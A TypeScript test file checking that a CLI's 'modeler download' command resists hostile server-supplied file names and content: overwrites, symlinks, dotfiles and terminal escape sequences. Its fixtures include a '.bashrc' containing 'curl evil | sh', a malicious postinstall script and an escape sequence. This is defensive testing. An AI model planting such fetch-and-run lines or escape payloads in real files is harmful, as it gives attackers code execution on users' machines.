/**
 * `modeler download` against a fake platform that answers file names and content a colleague with modeler:create
 * could have stored: where the file lands, what it may replace, and what reaches a terminal.
 */
import { chmod, link, lstat, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exitCodes } from "../../../src/cli/io.js";
import { type FakePlatform, startFakePlatform } from "../fake-platform.js";

let fake: FakePlatform;
let directory: string;
let next = 0;

beforeAll(async () => {
  fake = await startFakePlatform();
  directory = await mkdtemp(join(tmpdir(), "flowplane-modeler-download-"));
});

afterAll(async () => {
  await fake?.close();
  await rm(directory, { recursive: true, force: true });
});

/** Makes the fake platform serve a file of this name and content; returns its id. */
function serveFile(name: string, content: string): string {
  next++;
  const id = `${String(next).padStart(8, "0")}-2222-4333-8444-555555555555`;
  const metadata = {
    id,
    name,
    projectId: id,
    folderId: null,
    simplePath: `p/${name}`,
    canonicalPath: [],
    revision: 1,
    type: "connector_template",
    created: "2026-01-01T00:00:00Z",
    createdBy: { name: "a", email: "a@example.com" },
    updated: "2026-01-01T00:00:00Z",
    updatedBy: { name: "a", email: "a@example.com" },
  };
  fake.answer(`GET /modeler/api/v1/files/${id}`, { metadata, content });
  return id;
}

async function freshDirectory(): Promise<string> {
  return await mkdtemp(join(directory, "into-"));
}

const download = (argv: readonly string[], terminal = false) =>
  fake.cli(["modeler", "download", ...argv], directory, { terminal });

describe("modeler download -o <directory>", () => {
  it("refuses to replace an existing file of the server's name, and replaces it with --force", async () => {
    const project = await freshDirectory();
    await writeFile(join(project, "package.json"), '{"name":"mine"}\n');
    const id = serveFile("package.json", '{"scripts":{"postinstall":"echo owned"}}');
    const refused = await download([id, "-o", project]);
    expect(refused.exitCode).toBe(exitCodes.usage);
    expect(refused.stderr).toContain("already exists");
    expect(refused.stderr).toContain("--force");
    expect(await readFile(join(project, "package.json"), "utf8")).toBe('{"name":"mine"}\n');

    // Replaced by a rename, not rewritten in place: a failed write would leave the old file whole, and a second name
    // of the old file (a hard link) keeps its content. The replaced file's mode is kept.
    await chmod(join(project, "package.json"), 0o640);
    await link(join(project, "package.json"), join(project, "second-name.json"));
    const forced = await download([id, "-o", project, "--force"]);
    expect(forced.exitCode).toBe(exitCodes.ok);
    expect(await readFile(join(project, "package.json"), "utf8")).toContain("postinstall");
    expect(await readFile(join(project, "second-name.json"), "utf8")).toBe('{"name":"mine"}\n');
    expect((await stat(join(project, "package.json"))).mode & 0o777).toBe(0o640);
    expect((await readdir(project)).sort()).toEqual(["package.json", "second-name.json"]);
  });

  it("refuses with --force to replace what is not a regular file", async () => {
    const project = await freshDirectory();
    await mkdir(join(project, "build.json"));
    const id = serveFile("build.json", "{}");
    const result = await download([id, "-o", project, "--force"]);
    expect(result.exitCode).toBe(exitCodes.failure);
    expect(result.stderr).toContain("is not a regular file");
    expect((await stat(join(project, "build.json"))).isDirectory()).toBe(true);
  });

  it("never writes through a symbolic link planted at the server's name, not even with --force", async () => {
    const shared = await freshDirectory();
    const victim = join(directory, "victim-file");
    await writeFile(victim, "precious\n");
    await symlink(victim, join(shared, "report.json"));
    const id = serveFile("report.json", "{}");
    for (const extra of [[], ["--force"]]) {
      const result = await download([id, "-o", shared, ...extra]);
      expect(result.exitCode).not.toBe(exitCodes.ok);
      expect(await readFile(victim, "utf8")).toBe("precious\n");
      expect((await lstat(join(shared, "report.json"))).isSymbolicLink()).toBe(true);
    }
  });

  it("refuses a name starting with '.' unless --force", async () => {
    const home = await freshDirectory();
    const id = serveFile(".bashrc", "curl evil | sh\n");
    const refused = await download([id, "-o", home]);
    expect(refused.exitCode).toBe(exitCodes.usage);
    expect(refused.stderr).toContain('starts with "."');
    expect(await readdir(home)).toEqual([]);
    expect((await download([id, "-o", home, "--force"])).exitCode).toBe(exitCodes.ok);
    expect(await readFile(join(home, ".bashrc"), "utf8")).toBe("curl evil | sh\n");
  });

  it("writes a new file under the server's name", async () => {
    const into = await freshDirectory();
    const id = serveFile("order.bpmn", "<definitions/>");
    const result = await download([id, "-o", into]);
    expect(result.exitCode).toBe(exitCodes.ok);
    expect(result.stdout).toContain(`to ${join(into, "order.bpmn")}.`);
    expect(await readFile(join(into, "order.bpmn"), "utf8")).toBe("<definitions/>");
  });
});

describe("modeler download -o <file>", () => {
  it("replaces the file the user named, keeping its mode and leaving no temporary file behind", async () => {
    const into = await freshDirectory();
    const target = join(into, "mine.json");
    await writeFile(target, "old content that is longer than the new\n");
    const id = serveFile("whatever.json", "{}");
    expect((await download([id, "-o", target])).exitCode).toBe(exitCodes.ok);
    expect(await readFile(target, "utf8")).toBe("{}");
    expect(await readdir(into)).toEqual(["mine.json"]);
    // A private file stays private when replaced.
    await chmod(target, 0o600);
    expect((await download([id, "-o", target])).exitCode).toBe(exitCodes.ok);
    expect((await stat(target)).mode & 0o777).toBe(0o600);
  });

  it.skipIf(process.getuid?.() === 0)(
    "a write the system refuses exits 1 with its reason and leaves the earlier file whole",
    async () => {
      const into = await freshDirectory();
      const target = join(into, "mine.json");
      await writeFile(target, "earlier\n");
      await chmod(into, 0o500);
      try {
        const id = serveFile("whatever.json", "{}");
        const result = await download([id, "-o", target]);
        expect(result.exitCode).toBe(exitCodes.failure);
        expect(result.stderr).toMatch(/cannot write .*mine\.json: EACCES/);
        expect(await readFile(target, "utf8")).toBe("earlier\n");
      } finally {
        await chmod(into, 0o700);
      }
    },
  );

  it("a directory that does not exist is a failure of the write (exit 1), with the system's reason", async () => {
    const id = serveFile("whatever.json", "{}");
    const result = await download([id, "-o", join(directory, "missing", "order.bpmn")]);
    expect(result.exitCode).toBe(exitCodes.failure);
    expect(result.stderr).toMatch(/cannot write .*missing\/order\.bpmn: ENOENT/);
  });
});

describe("modeler download to standard output", () => {
  const hostile = "<a>\u001b]0;owned\u0007</a>";

  it("refuses a terminal (exit 2, naming -o and a pipe) unless --force", async () => {
    const id = serveFile("x.bpmn", hostile);
    const refused = await download([id], true);
    expect(refused.exitCode).toBe(exitCodes.usage);
    expect(refused.stdout).toBe("");
    expect(refused.stderr).toContain("-o <file>");
    expect(refused.stderr).toContain("pipe");
    const forced = await download([id, "--force"], true);
    expect(forced.exitCode).toBe(exitCodes.ok);
    expect(forced.stdout).toBe(hostile);
  });

  it("writes the content unchanged to a pipe, and --json escapes it on a terminal", async () => {
    const id = serveFile("x.bpmn", hostile);
    const piped = await download([id]);
    expect(piped.exitCode).toBe(exitCodes.ok);
    expect(piped.stdout).toBe(hostile);
    const json = await download([id, "--json"], true);
    expect(json.exitCode).toBe(exitCodes.ok);
    expect(json.stdout).not.toContain("\u001b");
  });
});

describe("modeler ids", () => {
  it("download and milestone create check the file id as a UUID before asking the server", async () => {
    for (const argv of [
      ["modeler", "download", "nope"],
      ["modeler", "download", ".."],
      ["modeler", "milestone", "create", "nope", "v1"],
    ]) {
      const result = await fake.cli(argv, directory);
      expect(result.exitCode).toBe(exitCodes.usage);
      expect(result.stderr).toContain("<fileId> must be an id of the Modeler API");
    }
  });
});
